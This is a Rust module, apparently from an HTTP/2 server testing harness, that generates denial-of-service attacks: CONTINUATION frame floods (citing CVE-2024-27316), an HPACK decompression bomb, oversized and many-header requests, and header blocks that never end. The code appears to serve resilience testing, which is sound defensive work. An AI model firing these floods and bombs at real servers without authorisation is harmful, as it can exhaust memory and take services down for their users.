//! Heads that are long, become long, or never end.

use conformance_wire::frames::{END_HEADERS, END_STREAM, Frame, HEADERS, literal};

use super::{Attack, Means, POST_TO_ROOT, hello, streams};
use crate::attacker::{Piece, Reading};

const CONTINUATION: u8 = 9;
/// What makes an entry of the peer's table (RFC 7541, 6.2.1), and the first entry of it
/// (6.1).
const WITH_INDEXING: u8 = 0x40;
const FIRST_ENTRY: u8 = 0x80 + 62;
/// Bytes of a value whose entry fits in a table of 4096.
const VALUE_BYTES: usize = 4000;

pub(super) fn all(means: &Means) -> Vec<Attack> {
    let scale = means.scale;
    let begun = |block: Vec<u8>| {
        let begun = Frame::new(HEADERS, 0, 1, block).bytes();
        Piece::once([hello(&[]), begun].concat())
    };
    let more = |block: &[u8]| Frame::new(CONTINUATION, 0, 1, block).bytes();
    vec![
        // CVE-2024-27316 and its kin.
        Attack::new(
            "flood of CONTINUATION",
            4,
            vec![begun(POST_TO_ROOT.to_vec()), Piece::repeated(more(&header(100)), 10_000 * scale)],
        )
        .that_must_end(),
        Attack::new(
            "flood of empty CONTINUATION",
            4,
            vec![
                begun(POST_TO_ROOT.to_vec()),
                Piece::repeated(more(&[]).repeat(100), 1000 * scale),
            ],
        )
        .that_must_end(),
        Attack::new("bomb of HPACK", 20, streams(100 * scale, |stream| vec![bomb(stream)])),
        Attack::new(
            "heads of 15 KiB",
            20,
            streams(200 * scale, |stream| {
                let block = [POST_TO_ROOT, &header(15 * 1024)].concat();
                vec![Frame::new(HEADERS, END_HEADERS | END_STREAM, stream, block)]
            }),
        ),
        Attack::new(
            "heads of a thousand headers",
            20,
            streams(200 * scale, |stream| {
                let block = [POST_TO_ROOT, &header(1).repeat(1000)].concat();
                vec![Frame::new(HEADERS, END_HEADERS | END_STREAM, stream, block)]
            }),
        ),
        Attack::new(
            "heads of 12 KiB that never end",
            400 * scale.min(8),
            vec![begun([POST_TO_ROOT, &header(12 * 1024)].concat())],
        )
        .reading(Reading::Nothing),
    ]
}

/// A head of 16 KiB that makes 16 million bytes of headers: one long entry of the table, named
/// again and again.
fn bomb(stream: u32) -> Frame {
    let mut block = POST_TO_ROOT.to_vec();
    let entry = header(VALUE_BYTES);
    block.push(WITH_INDEXING);
    block.extend(&entry[1..]);
    block.extend([FIRST_ENTRY].repeat(VALUE_BYTES));
    Frame::new(HEADERS, END_HEADERS | END_STREAM, stream, block)
}

/// A header with a value of so many bytes.
fn header(bytes: usize) -> Vec<u8> {
    let mut block = Vec::new();
    literal(&mut block, "x", "v".repeat(bytes));
    block
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_bomb_is_small_and_fits_in_a_frame() {
        let frame = bomb(1);
        assert!(frame.payload.len() < 16 * 1024);
        assert_eq!(frame.payload[5], WITH_INDEXING);
        assert!(frame.payload.ends_with(&[FIRST_ENTRY; VALUE_BYTES]));
    }
}
